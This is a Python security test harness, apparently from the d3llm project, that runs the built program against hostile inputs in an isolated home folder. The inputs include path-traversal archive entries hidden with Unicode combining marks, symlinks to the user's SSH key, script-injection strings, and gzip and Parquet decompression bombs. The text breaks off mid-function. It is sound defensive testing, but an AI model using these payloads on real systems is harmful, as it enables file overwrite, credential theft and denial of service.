#!/usr/bin/env python3
"""Attacks a built d3llm from outside and says which attacks it refuses.

    scripts/safety-check.py D3LLM              # every attack; the exit code is the number of holes
    scripts/safety-check.py D3LLM NAME…        # some of them; --list names them
    scripts/safety-check.py D3LLM --short      # without those that take long
    scripts/safety-check.py D3LLM --json FILE  # writes name, verdict and reason of each

Each attack happens in a home folder of its own that is made for it, with servers on the loopback interface, hostile archives,
lock files, stores, models and bundles. Everything there but the store, the caches and the outputs that the command line
names is compared before and after: names, kinds, modes, sizes, links and hashes. An attack is refused where nothing of that
changed, no secret left, nothing of the attacker's ran, and no process ended by a signal.

Who is root runs it as nobody, as programs of models would be run by a user. What a machine can't do (user namespaces, file
attributes, TLS without openssl) is told as "not tried" and counts as nothing.
"""
import argparse
import contextlib
import ctypes
import encodings.idna  # noqa: F401  read before rights are given up
import fcntl
import gzip
import hashlib
import html.parser
import http.client
import http.server
import io
import json
import lzma  # noqa: F401
import os
import pathlib
import random
import re
import resource
import shutil
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile

REPOSITORY = pathlib.Path(__file__).resolve().parent.parent
FIXTURE = REPOSITORY / "Tests/Fixtures/live/causal"
NOBODY = 65534
# Commands of a debug build on a loaded machine take long; only what hangs is stopped.
PATIENCE = 600

ACUTE, NUMBER_SIGN = "\u0301", "\u0600"  # the first joins what stands before it, the second what follows
TOKEN = "hf_SECRETTOKEN"
ESCAPES = f"../{ACUTE}{NUMBER_SIGN}/.."  # one Character-wise part; for the kernel one folder up


class Hole(Exception):
    """The attack came through."""


class NotTried(Exception):
    """This machine can't do what the attack needs."""


ATTACKS = {}


LONG = set()


def attack(function):
    """Registers an attack by its name."""
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def long(function):
    """An attack that takes long, and is left out of the short form."""
    LONG.add(function.__name__.replace("_", "-"))
    return function


# ---- a home, and what may change in it


def listing(root, without):
    """Everything below a folder: kind, mode, size, hash or target, by path."""
    found, pending = {}, [os.fsencode(root)]
    skipped = {os.fsencode(path) for path in without}
    while pending:
        folder = pending.pop()
        for entry in os.scandir(folder):
            if entry.path in skipped:
                continue
            info = entry.stat(follow_symlinks=False)
            kind, mode = stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode)
            if stat.S_ISDIR(kind):
                found[entry.path] = ("folder", mode)
                pending.append(entry.path)
            elif stat.S_ISLNK(kind):
                found[entry.path] = ("link", os.readlink(entry.path))
            elif stat.S_ISREG(kind):
                with open(entry.path, "rb") as file:
                    found[entry.path] = ("file", mode, info.st_size, hashlib.sha256(file.read()).hexdigest())
            else:
                found[entry.path] = (kind, mode)
    return found


class Outcome:
    """How a command ended, and what it wrote."""

    def __init__(self, code, output, log):
        self.code, self.output, self.log = code, output, log

    @property
    def text(self):
        return (self.output + self.log).decode("utf-8", "replace")


class Bench:
    """A home with files of a user, a repository in it, and the program."""

    def __init__(self, program, fixture):
        self.program, self.fixture = program, fixture
        self.root = pathlib.Path(tempfile.mkdtemp(prefix="d3llm-safety-"))
        self.home, self.cache, self.out = self.root / "home", self.root / "cache", self.root / "out"
        self.repository = self.home / "work/repository"
        self.store = self.repository / "store"
        self.scratch = self.root / "scratch"
        for folder in (self.repository, self.cache, self.out, self.scratch):
            folder.mkdir(parents=True)
        for place, text in [
            (".ssh/id_rsa", "SECRETKEY"), (".ssh/known_hosts", "hosts"), (".bashrc", "# mine"), ("thesis.pdf", "years"),
            ("notes.txt", "notes"), ("docs.d/deep.d/a.b", "deep"), ("plain", "plain"), (".config/token", "hf_OTHER"),
            ("a" * 64 + ".1f/inner.txt", "named as a temporary folder"), ("samples.jsonl", "one line without end"),
        ]:
            path = self.home / place
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        (self.home / ".ssh/id_rsa").chmod(0o600)
        self.allowed = {self.store, self.cache, self.out, self.scratch}
        self.before = None

    def write(self, place, content):
        """Writes a file of the repository: text, bytes, or JSON."""
        path = self.repository / place
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, (dict, list)):
            content = json.dumps(content)
        # Another file, whatever else has the name that it had.
        path.unlink(missing_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    def watch(self):
        """What is there now is to stay."""
        self.before = listing(self.root, self.allowed)

    def unchanged(self):
        """Raises where something outside of store, caches and outputs differs from what was there."""
        after = listing(self.root, self.allowed)
        lost = sorted(set(self.before) - set(after))
        new = sorted(set(after) - set(self.before))
        changed = sorted(path for path in after if path in self.before and after[path] != self.before[path])
        for word, paths in (("removed", lost), ("created", new), ("changed", changed)):
            if paths:
                path = os.fsdecode(paths[0])[len(str(self.root)):].encode("ascii", "backslashreplace").decode()
                raise Hole(f"{word} {path}" + (f" and {len(paths) - 1} more" if len(paths) > 1 else ""))

    def environment(self, more=None):
        names = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8", "HOME": str(self.home),
                 "TMPDIR": str(self.scratch), "HF_HOME": str(self.cache / "hf"), "D3LLM_CACHE": str(self.cache / "d3"),
                 "SWIFT_BACKTRACE": "enable=no", "no_proxy": "127.0.0.1,127.0.0.2"}
        if "LD_LIBRARY_PATH" in os.environ:
            names["LD_LIBRARY_PATH"] = os.environ["LD_LIBRARY_PATH"]
        return {**names, **(more or {})}

    def start(self, *words, env=None, cwd=None, prepare=None, entry=False):
        def limits():
            resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
            # Whatever grows without end is stopped before the machine is short of memory.
            resource.setrlimit(resource.RLIMIT_AS, (12 << 30, 12 << 30))
            if prepare:
                prepare()

        return subprocess.Popen(
            [self.program, *map(str, words)], cwd=cwd or self.repository, env=self.environment(env), preexec_fn=limits,
            stdin=subprocess.PIPE if entry else subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            start_new_session=True)

    def run(self, *words, env=None, cwd=None, prepare=None, patience=PATIENCE):
        """Runs the program to its end, which must not be a signal."""
        process = self.start(*words, env=env, cwd=cwd, prepare=prepare)
        try:
            output, log = process.communicate(timeout=patience)
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            raise Hole(f"{words[0]} doesn't end within {patience} s") from None
        if process.returncode < 0:
            raise Hole(f"{words[0]} ended by {signal.Signals(-process.returncode).name}")
        return Outcome(process.returncode, output, log)

    def must(self, *words, **options):
        """A preparation, which has to work."""
        outcome = self.run(*words, **options)
        if outcome.code:
            raise RuntimeError(f"{' '.join(map(str, words))}: {outcome.code}\n{outcome.text}")
        return outcome

    # -- models and experiments

    def parrot(self, answer, folder="model", template=None, pattern=None):
        """A model that answers every prompt with one text: its first token is the text, its second the end."""
        bytes_ = self.fixture["model.safetensors"]
        size = struct.unpack("<Q", bytes_[:8])[0]
        header = json.loads(bytes_[8:8 + size])
        data = bytearray(bytes_[8 + size:])
        for name, tensor in header.items():
            if name == "__metadata__":
                continue
            start, end = tensor["data_offsets"]
            count = (end - start) // 4
            values = [1.0] * count if "norm" in name else [0.0] * count
            if name in ("model.embed_tokens.weight", "lm_head.weight"):
                is_input = name == "model.embed_tokens.weight"
                for token in range(259):
                    if is_input:
                        values[token * 8 + (1 if token == 258 else 0)] = 1.0
                if not is_input:
                    values[258 * 8], values[256 * 8 + 1] = 10.0, 10.0
            data[start:end] = struct.pack(f"<{count}f", *values)
        tokenizer = json.loads(self.fixture["tokenizer.json"])
        for token in tokenizer["added_tokens"]:
            if token["id"] == 258:
                token["content"] = answer
        if pattern:
            tokenizer["pre_tokenizer"] = {"type": "Sequence", "pretokenizers": [
                {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False},
                {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": False}]}
        settings = json.loads(self.fixture["tokenizer_config.json"])
        if template is not None:
            settings["chat_template"] = template
        self.write(f"{folder}/config.json", self.fixture["config.json"])
        self.write(f"{folder}/model.safetensors", bytes_[:8 + size] + bytes(data))
        self.write(f"{folder}/tokenizer.json", tokenizer)
        self.write(f"{folder}/tokenizer_config.json", settings)
        return self.repository / folder

    def model_stage(self, folder):
        names = sorted(path.name for path in folder.iterdir())
        lines = "".join(f"{sha256(folder / name)}  {name}\n" for name in names)
        return {"kind": "model-folder", "path": str(folder), "digest": hashlib.sha256(lines.encode()).hexdigest()}

    def data_stage(self, path):
        return {"kind": "local-files", "path": str(path), "sha256": sha256(path)}

    def exam(self, records, task="humaneval", answer="\n", length=2, name="bench", more=None):
        """The configuration of an experiment in which a parrot answers the problems of a file."""
        model = self.parrot(answer)
        data = self.write("problems.jsonl", "".join(json.dumps(record) + "\n" for record in records))
        return self.write("exam.json", {"name": name, "stages": {
            "model": self.model_stage(model), "file": self.data_stage(data),
            "questions": {"kind": "benchmark", "task": task, "family": "dream", "file": "@file"},
            "curve": {"kind": "evaluate", "model": "@model", "data": "@questions",
                      "decoder": {"method": "autoregressive", "generationLength": length}},
            **(more or {})}})

    def quick(self):
        return self.write("quick.json", {"name": "quick", "stages": {"p": {"kind": "synthesize", "train": 4, "test": 2}}})

    def artifacts(self, stage, experiment="bench", store=None):
        return sorted(((store or self.store) / experiment).glob(f"{stage}-*"))

    def samples(self):
        return b"".join((folder / "samples.jsonl").read_bytes() for folder in self.artifacts("curve"))


def sha256(path):
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


def archive(entries, kind="tar"):
    """The bytes of an archive whose entries have any names: (name, bytes) or (name, target of a link)."""
    packed = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(packed, "w") as file:
            for name, content in entries:
                file.writestr(zipfile.ZipInfo(name), content)
        return packed.getvalue()
    mode = {"tar": "w", "tar.gz": "w:gz", "tar.xz": "w:xz"}[kind]
    with tarfile.open(fileobj=packed, mode=mode, format=tarfile.PAX_FORMAT) as file:
        for name, content in entries:
            entry = tarfile.TarInfo(name)
            if isinstance(content, str):
                entry.type, entry.linkname = tarfile.SYMTYPE, content
                file.addfile(entry)
            else:
                entry.size = len(content)
                file.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


def unpacked_zstd(data):
    """What a file holds that d3llm packed; libarchive needs the library, so that it is there."""
    library = ctypes.CDLL("libzstd.so.1")

    class Buffer(ctypes.Structure):
        _fields_ = [("data", ctypes.c_char_p), ("size", ctypes.c_size_t), ("place", ctypes.c_size_t)]

    library.ZSTD_createDStream.restype = ctypes.c_void_p
    library.ZSTD_decompressStream.restype = ctypes.c_size_t
    stream = ctypes.c_void_p(library.ZSTD_createDStream())
    source, parts = Buffer(data, len(data), 0), []
    room = ctypes.create_string_buffer(1 << 20)
    while True:
        target = Buffer(ctypes.cast(room, ctypes.c_char_p), len(room), 0)
        left = library.ZSTD_decompressStream(stream, ctypes.byref(target), ctypes.byref(source))
        if library.ZSTD_isError(ctypes.c_size_t(left)):
            raise RuntimeError("not a whole zstd file")
        parts.append(room.raw[:target.place])
        if source.place == len(data) and target.place < len(room):
            return b"".join(parts)


@contextlib.contextmanager
def server(answer, host="127.0.0.1", context=None):
    """An HTTP server; `answer` gives status, fields and body for a request. Gives its address and what it was asked."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            asked.append((self.path, dict(self.headers)))
            status, fields, body = answer(self.path)
            lines = [f"HTTP/1.1 {status} X", f"Content-Length: {len(body)}", "Connection: close"]
            lines += [f"{name}: {value}" for name, value in fields.items()]
            self.wfile.write(("\r\n".join(lines) + "\r\n\r\n").encode())
            if self.command != "HEAD":
                self.wfile.write(body)
            self.close_connection = True

        do_HEAD = do_GET

        def log_message(self, *_):
            pass

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, *_):
            pass

    running = Server((host, 0), Handler)
    if context:
        running.socket = context.wrap_socket(running.socket, server_side=True)
    threading.Thread(target=running.serve_forever, daemon=True).start()
    try:
        yield f"{'https' if context else 'http'}://{host}:{running.server_port}", asked
    finally:
        running.shutdown()
        running.server_close()


def lock_file(bench, path, content, address):
    """A data.lock with one pinned file."""
    return bench.write("data.lock", {"format": 1, "inputs": {"data": {"files": [{
        "path": path, "urls": [address], "size": len(content), "sha256": hashlib.sha256(content).hexdigest()}]}}})


FETCH = {"name": "fetched", "stages": {"data": {"kind": "fetch", "input": "data"}}}


# ---- files


@attack
@long
def hidden_folders_of_a_store_are_links(bench):
    """A cloned repository brings a store whose hidden folders lead to the home."""
    config = bench.quick()
    bundle = bench.out / "bundle.tar.zst"
    other = bench.out / "other"
    bench.must("run", config, "--store", other, "--no-forecast")
    bench.must("export", "quick", "--store", other, "--output", bundle)
    for name in (".tmp", ".work", ".locks", ".index", ".damaged", ".facts"):
        for target in ("../../..", "../../../docs.d"):
            shutil.rmtree(bench.store, ignore_errors=True)
            bench.store.mkdir()
            (bench.store / name).symlink_to(target)
            bench.watch()
            for words in (["run", config, "--no-forecast"], ["import", bundle], ["gc", "--yes"]):
                bench.run(*words, "--store", bench.store)
                bench.unchanged()


@attack
def a_folder_of_ones_own_is_the_store(bench):
    """--store . in a folder that has a .tmp of its own."""
    config = bench.quick()
    own = [f"{folder}/{name}" for folder in (".tmp", ".work", ".damaged", ".facts")
           for name in ("data.csv", "deep.d/x.y", "report.20241231/a", "a" * 64 + ".x/b")]
    for place in own:
        bench.write(place, "mine")
    bench.write(".index/readme.txt", "mine")
    for words in (["run", config, "--no-forecast"], ["gc", "--yes"], ["run", config, "--no-forecast", "--set", "seed=3"]):
        bench.run(*words, "--store", ".")
        for place in own + [".index/readme.txt"]:
            path = bench.repository / place
            if not path.is_file() or path.read_text() != "mine":
                raise Hole(f"{words[0]} removed {place}")


def hostile_names(depth):
    """Names of entries that lead to the home from a folder so deep below it."""
    for levels in range(1, depth + 1):
        for part in (ESCAPES, f"{NUMBER_SIGN}/../../{ACUTE}", f"../{ACUTE}/../{NUMBER_SIGN}/.."):
            yield "/".join([part] * levels) + f"/PWNED-{levels}"
    yield "../PWNED-plain"
    yield "a/../../PWNED-inner"


@attack
@long
def archives_lead_out_when_imported(bench):
    """Names of entries hide that they lead out of the folder in which a bundle is unpacked."""
    bench.watch()
    for kind in ("tar", "tar.gz", "tar.xz", "zip"):
        for name in hostile_names(6):
            bundle = bench.out / f"bundle.{kind}"
            bundle.write_bytes(archive([(name, b"attacker's key")], kind))
            bench.run("import", bundle, "--store", bench.store)
            bench.unchanged()


@attack
@long
def archives_lead_out_when_fetched(bench):
    """The same through the stage that fetches and unpacks."""
    names = list(hostile_names(7))
    bench.write("fetched.json", FETCH)
    for kind in ("tar", "zip"):
        for name in names[::3]:
            content = archive([("data.jsonl", b"{}\n"), (name, b"attacker")], kind)
            with server(lambda _: (200, {}, content)) as (address, _):
                lock_file(bench, f"set.{kind}", content, f"{address}/set.{kind}")
                bench.watch()
                bench.run("run", "fetched.json", "--store", bench.store, "--no-forecast")
            bench.unchanged()


@attack
@long
def archives_lead_out_as_data_sets(bench):
    """The same through data sets, which may be archives of JSON files."""
    record = json.dumps({"problem": "1+1?", "level": "Level 1", "type": "Algebra", "solution": "\\boxed{2}"}).encode()
    for name in list(hostile_names(7))[::3]:
        content = archive([("MATH/test/algebra/1.json", record), (name, b"attacker")])
        data = bench.write("MATH.tar", content)
        bench.write("math.json", {"name": "math", "stages": {
            "file": bench.data_stage(data),
            "questions": {"kind": "benchmark", "task": "math", "family": "dream", "file": "@file"}}})
        bench.watch()
        bench.run("run", "math.json", "--store", bench.store, "--no-forecast")
        bench.unchanged()


@attack
def links_in_archives(bench):
    """An archive brings a link first, and then a file below it."""
    bench.watch()
    for target in ("../../../..", str(bench.home), "../../.."):
        for name in ("a", f"a{ACUTE}"):
            bundle = bench.out / "bundle.tar"
            bundle.write_bytes(archive([(name, target), (f"{name}/PWNED", b"x")]))
            bench.run("import", bundle, "--store", bench.store)
            bench.unchanged()


@attack
def paths_of_a_lock_file_lead_out(bench):
    """data.lock names where a file goes; the content of a compressed one replaced what was there."""
    content = gzip.compress(b"echo pwned\n")
    bench.write("fetched.json", FETCH)
    with server(lambda _: (200, {}, content)) as (address, _):
        for levels in range(1, 8):
            for end in (".bashrc.gz", "PWNED", ".ssh/known_hosts.gz"):
                lock_file(bench, "/".join([ESCAPES] * levels) + "/" + end, content, f"{address}/x.gz")
                bench.watch()
                bench.run("run", "fetched.json", "--store", bench.store, "--no-forecast")
                bench.unchanged()


@attack
@long
def a_hub_lists_paths_that_lead_out(bench):
    """A mirror's list of files has names that a repository of git couldn't have."""
    commit, content = "c0ffee12" * 5, b"{}\n"
    blob = hashlib.sha1(b"blob 3\0" + content).hexdigest()
    for levels in range(1, 9):
        path = "/".join([ESCAPES] * levels) + "/PWNED.json"

        def answer(target):
            if "/api/" in target:
                body = json.dumps({"sha": commit, "siblings": [
                    {"rfilename": path, "size": 3, "blobId": blob}, {"rfilename": "config.json", "size": 3, "blobId": blob}]})
                return 200, {"Content-Type": "application/json"}, body.encode()
            return 200, {"ETag": f'"{blob}"', "X-Repo-Commit": commit}, content

        lock = {"format": 1, "inputs": {"data": {"repository": "org/name", "type": "model", "revision": "main",
                                                 "include": ["*"], "files": []}}}
        bench.write("data.lock", lock)
        bench.write("fetched.json", FETCH)
        bench.allowed.add(bench.repository / "data.lock")
        bench.watch()
        with server(answer) as (address, _):
            env = {"HF_ENDPOINT": address}
            bench.run("fetch", "data", env=env)
            bench.unchanged()
            bench.run("run", "fetched.json", "--store", bench.store, "--no-forecast", env=env)
        bench.unchanged()


@attack
def a_journal_is_a_link(bench):
    """The work of a stage in a prepared store leads to a file of the user's."""
    config = bench.exam([problem("pass")], task="gsm8k-cot")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    fingerprints = [json.loads((folder / "artifact.json").read_text())["fingerprint"] for folder in bench.artifacts("*")]
    shutil.rmtree(bench.store)
    (bench.store / ".work").mkdir(parents=True)
    for fingerprint in fingerprints:
        (bench.store / ".work" / fingerprint).mkdir()
        for name in ("samples.jsonl", "checkpoint.safetensors", "unpacked"):
            (bench.store / ".work" / fingerprint / name).symlink_to(bench.home / "samples.jsonl")
    bench.watch()
    bench.run("run", config, "--store", bench.store, "--no-forecast")
    bench.unchanged()


@attack
def an_export_follows_links(bench):
    """The folder of a run in a cloned store has a link to the user's key, which would be packed."""
    config = bench.quick()
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    run = next((bench.store / "quick/runs").iterdir())
    for name in sorted(path.name for path in run.iterdir()) + ["notes.txt"]:
        kept = (run / name).read_bytes() if (run / name).exists() else None
        if kept is not None:
            (run / name).unlink()
        (run / name).symlink_to(bench.home / ".ssh/id_rsa")
        bundle = bench.out / f"{name}.tar.zst"
        bench.run("export", "quick", "--store", bench.store, "--output", bundle)
        if bundle.exists() and b"SECRETKEY" in unpacked_zstd(bundle.read_bytes()):
            raise Hole(f"the user's key is in the bundle as {name}")
        (run / name).unlink()
        if kept is not None:
            (run / name).write_bytes(kept)


@attack
def an_export_names_folders_of_the_machine(bench):
    """Paths of the user's folders are in what is given to others."""
    config = bench.exam([problem("pass")], task="gsm8k-cot")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    bundle = bench.out / "bundle.tar.zst"
    bench.must("export", "bench", "--store", bench.store, "--output", bundle)
    if str(bench.home).encode() in unpacked_zstd(bundle.read_bytes()):
        raise Hole("the bundle names the user's home")


@attack
def names_that_are_no_text(bench):
    """verify says that no file is too many; a file whose name isn't UTF-8 is one."""
    config = bench.quick()
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    bench.must("verify", "quick", "--store", bench.store)
    (folder,) = bench.artifacts("p", "quick")
    with open(os.fsencode(folder) + b"/\xff\xfe.bin", "wb") as file:
        file.write(b"hidden")
    if bench.run("verify", "quick", "--store", bench.store).code == 0:
        raise Hole("verify finds nothing")


@attack
def an_input_is_called_artifact_json(bench):
    """A pinned file has the name of an artifact's record."""
    bench.write("fetched.json", FETCH)
    content = b'{"format": 1}\n'
    with server(lambda _: (200, {}, content)) as (address, _):
        for name in ("artifact.json", "sub/artifact.json"):
            lock_file(bench, name, content, f"{address}/x")
            bench.watch()
            bench.run("run", "fetched.json", "--store", bench.store, "--no-forecast")
            bench.unchanged()


# ---- what others read


MARKUP = [f"{NUMBER_SIGN}</script>{NUMBER_SIGN}<script>document.title='PWNED'//{NUMBER_SIGN}</script>",
          f"</script>{ACUTE}<script>PWNED=1</script>", f"{NUMBER_SIGN}<img src=x onerror=PWNED()>", "<!--<script>PWNED"]


def leases(bench, ident, names):
    """A store of leases whose holders have this id, and that run out after a second."""
    shutil.rmtree(bench.store, ignore_errors=True)
    locks = bench.store / ".locks"
    locks.mkdir(parents=True)
    (bench.store / ".d3llm-store").write_text("d3llm keeps artifacts and records of runs here; see docs/runs.md.\n")
    (locks / "leases").write_text("Processes agree by leases on who makes what in this store.\n")
    for name in names:
        (locks / f"{name}.a").mkdir()
        (locks / f"{name}.lease").write_bytes(
            b"d3llm-lease 1\n" + ident + b"\n" + b"0" * 16 + b'\n1\n{"process":1,"host":"h"}\n')


def take_over(bench, ident, names, *words):
    """A command that meets those leases; what it makes in the home and removes again shows in the folder's time."""
    leases(bench, ident, names)
    before = bench.home.stat().st_mtime_ns
    bench.watch()
    bench.run(*words, "--store", bench.store, env={"D3LLM_LEASE_SECONDS": "1"}, patience=300)
    bench.unchanged()
    if bench.home.stat().st_mtime_ns != before:
        raise Hole("made a file in the home, and removed it")


def lease_id(name):
    """An id of 32 Characters that leads from the folder of a store's locks to a name in the home."""
    path = "a/" + "../" * 5
    room = 32 - len(path) - len(name)
    return (path + "./" * (room // 2) + "/" * (room % 2) + name).encode()


# What stands behind a NUL is cut off with the end of the name that was to follow it.
LEASE_IDS = [b"a/../../../../../.bashrc".ljust(32, b"\0"), lease_id("thesis"), lease_id("PWNED")]


def fingerprint_of(bench, config):
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    (folder,) = bench.artifacts("p", "quick")
    return json.loads((folder / "artifact.json").read_text())["fingerprint"]


@attack
def the_id_of_a_lease_leads_out(bench):
    """A cloned repository brings a lease that has run out; its holder's id leads to the user's ~/.bashrc, which was removed."""
    config = bench.quick()
    names = [fingerprint_of(bench, config)]
    (bench.home / "thesis.next").write_text("years")
    for ident in LEASE_IDS:
        take_over(bench, ident, names, "run", config, "--no-forecast")


@attack
@long
def ids_of_leases_lead_out_of_every_command(bench):
    """The same leases for the locks of imports and of the whole store, met by run, gc and import."""
    config = bench.quick()
    names = [fingerprint_of(bench, config), "import", "gate"]
    bundle = bench.out / "bundle.tar.zst"
    bench.must("export", "quick", "--store", bench.store, "--output", bundle)
    (bench.home / "thesis.next").write_text("years")
    for ident in LEASE_IDS:
        for words in (["run", config, "--no-forecast"], ["gc", "--yes"], ["import", bundle]):
            take_over(bench, ident, names, *words)


class Long(int):
    """A whole number that Thrift writes in 64 bits, not in 32."""


class Thrift:
    """Thrift's compact protocol, as far as the footer and the pages of a Parquet file need it."""

    @staticmethod
    def number(value):
        """An unsigned number of seven bits a byte."""
        out = bytearray()
        while value > 0x7F:
            out.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes(out + bytes([value]))

    @classmethod
    def value(cls, value):
        """The type of a value, and its bytes; a dictionary is a structure by the numbers of its fields."""
        if isinstance(value, int):
            return (6 if isinstance(value, Long) else 5), cls.number(value << 1)
        if isinstance(value, str):
            return 8, cls.number(len(value.encode())) + value.encode()
        if isinstance(value, list):
            parts = [cls.value(element) for element in value]
            head = bytes([len(parts) << 4 | parts[0][0]]) if len(parts) < 15 else bytes([0xF0 | parts[0][0]]) + cls.number(
                len(parts))
            return 9, head + b"".join(part for _, part in parts)
        out, last = b"", 0
        for key, element in value.items():
            kind, part = cls.value(element)
            out += bytes([(key - last) << 4 | kind]) + part
            last = key
        return 12, out + b"\0"


def parquet(columns, pages, values):
    """Columns of numbers, none of which is there: a page says so of any number of them in a few bytes."""
    levels = Thrift.number(values << 1) + b"\0"
    content = struct.pack("<I", len(levels)) + levels
    page = Thrift.value({1: 0, 2: len(content), 3: len(content), 5: {1: values, 2: 0, 3: 3, 4: 3}})[1] + content
    body, chunks = b"PAR1", []
    for column in range(columns):
        name, size = ("text" if column == 0 else f"c{column}"), Long(len(page) * pages)
        start = Long(len(body))
        chunks.append({2: start, 3: {1: 1, 2: [0], 3: [name], 4: 0, 5: Long(pages * values), 6: size, 7: size, 9: start}})
        body += page * pages
    schema = [{4: "schema", 5: columns}] + [{1: 1, 3: 1, 4: chunk[3][3][0]} for chunk in chunks]
    rows = Long(pages * values)
    footer = Thrift.value({1: 1, 2: schema, 3: rows, 4: [{1: chunks, 2: Long(len(body)), 3: rows}]})[1]
    return body + footer + struct.pack("<I", len(footer)) + b"PAR1"


@attack
@long
def a_few_bytes_become_gigabytes(bench):
    """A file of kilobytes that holds a billion records, lines, values or headings: the machine's memory is taken."""
    def gigabytes(name, unit, head=b"", count=3 << 29):
        with gzip.open(bench.repository / name, "wb", compresslevel=1) as file:
            file.write(head)
            part = unit * (1 << 20)
            for _ in range(count // len(part)):
                file.write(part)

    def tight():
        resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))

    gigabytes("list.json.gz", b"{},", b"[")
    gigabytes("breaks.json.gz", b"\n", count=1 << 29)
    gigabytes("lines.jsonl.gz", b"{}\n", count=1 << 28)
    gigabytes("long.jsonl.gz", b"[],", b"[", count=1 << 28)
    gigabytes("commas.csv.gz", b",", count=1 << 28)
    gigabytes("rows.csv.gz", b"1\n", b"text\n", count=1 << 28)
    gigabytes("text.txt.gz", b"a\n", count=1 << 28)
    bench.write("rows.parquet", parquet(1, 4, 1 << 24))
    bench.write("columns.parquet", parquet(2000, 1, 300_000))
    with open(bench.repository / "hole.jsonl", "wb") as file:
        file.truncate(1 << 40)
    names = sorted(path.name for path in bench.repository.iterdir())
    for name in names:
        path = bench.repository / name
        try:
            outcome = bench.run("data", path, prepare=tight)
            if outcome.code == 0 and "malformed" not in outcome.text:
                raise Hole(f"it ended without a word of it: {outcome.text[:200]}")
            if name == "lines.jsonl.gz":
                bench.write("data.json", {"name": "data", "stages": {
                    "file": {"kind": "local-files", "path": str(path), "sha256": sha256(path)},
                    "questions": {"kind": "benchmark", "task": "gsm8k-cot", "family": "dream", "file": "@file"}}})
                bench.run("run", "data.json", "--store", bench.store, "--no-forecast", prepare=tight)
        except Hole as hole:
            raise Hole(f"{name}: {hole}") from None


@attack
def a_journal_is_a_hole(bench):
    """A store brings a journal of a terabyte without a block on the disk, which plans and runs read whole."""
    config = bench.exam([problem("a")], task="gsm8k-cot")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    (artifact,) = bench.artifacts("curve")
    fingerprint = json.loads((artifact / "artifact.json").read_bytes())["fingerprint"]
    work = next(iter(bench.store.glob(".work")), bench.store / ".work") / fingerprint
    shutil.rmtree(artifact)
    for start in (b"", (json.dumps({"journal": 1, "fingerprint": fingerprint}, separators=(",", ":")) + "\n").encode()):
        shutil.rmtree(work, ignore_errors=True)
        work.mkdir(parents=True)
        with open(work / "samples.jsonl", "wb") as file:
            file.write(start)
            file.truncate(1 << 40)
        for words in (["plan", config], ["run", config, "--no-forecast"]):
            bench.run(*words, "--store", bench.store)


def put(path, kind):
    """A link to a device without an end, or a pipe that nobody writes to, where a file was."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")


@attack
def files_of_a_checkpoint_are_devices_or_pipes(bench):
    """A repository brings links to /dev/zero: memory until an abort, or a wait without an end; pipes are waited for."""
    for name in ("config.json", "tokenizer.json", "tokenizer_config.json", "generation_config.json", "chat_template.jinja",
                 "special_tokens_map.json", "adapter_config.json", "model.safetensors.index.json", "model.safetensors", "model.gguf"):
        for kind in ("zero", "pipe"):
            shutil.rmtree(bench.repository / "model", ignore_errors=True)
            folder = bench.parrot("answer")
            if name.endswith("index.json"):
                (folder / "model.safetensors").unlink()
            if name.endswith(".gguf"):
                (folder / "config.json").unlink()
            put(folder / name, kind)
            try:
                bench.run("decode", folder, "x", "--method", "autoregressive", "--plain", "--set", "generationLength=2",
                          patience=60)
            except Hole as hole:
                raise Hole(f"{name} as {kind}: {hole}") from None
    bench.write("fetched.json", FETCH)
    for kind in ("zero", "pipe"):
        put(bench.repository / "data.lock", kind)
        bench.run("plan", "fetched.json", patience=60)


@attack
@long
def files_of_a_store_are_devices_or_pipes(bench):
    """The same in a store: leases, markers, records of runs and launches; a run waited, deaf to SIGTERM."""
    config = bench.quick()
    fingerprint = fingerprint_of(bench, config)
    kept = bench.scratch / "kept"
    shutil.copytree(bench.store, kept)
    (artifact,) = bench.artifacts("p", "quick")
    run = next((bench.store / "quick/runs").iterdir()).name
    tools = bench.scratch / "bin"
    tools.mkdir()
    for name in ("squeue", "sacct"):
        (tools / name).write_text("#!/bin/sh\nexit 0\n")
        (tools / name).chmod(0o755)
    env = {"PATH": f"{tools}:{os.environ.get('PATH', '/usr/bin:/bin')}", "D3LLM_LEASE_SECONDS": "1"}
    bundle = bench.out / "bundle.tar.zst"
    commands = [["run", config, "--no-forecast", "--from", "p"], ["gc"], ["verify", "quick"],
                ["export", "quick", "--output", bundle], ["launch", "status", config]]
    for place in (f".locks/{fingerprint}.lease", ".locks/gate.lease", f"quick/{artifact.name}/incomplete.json",
                  f"quick/{artifact.name}/artifact.json", f"quick/runs/{run}/run.json", f"quick/runs/{run}/experiment.json",
                  "quick/launches/20261129T100000Z-1/launch.json", f".index/{fingerprint}", f".facts/{fingerprint}"):
        for kind in ("zero", "pipe"):
            for words in commands:
                shutil.rmtree(bench.store)
                shutil.copytree(kept, bench.store)
                if place.endswith(".lease"):
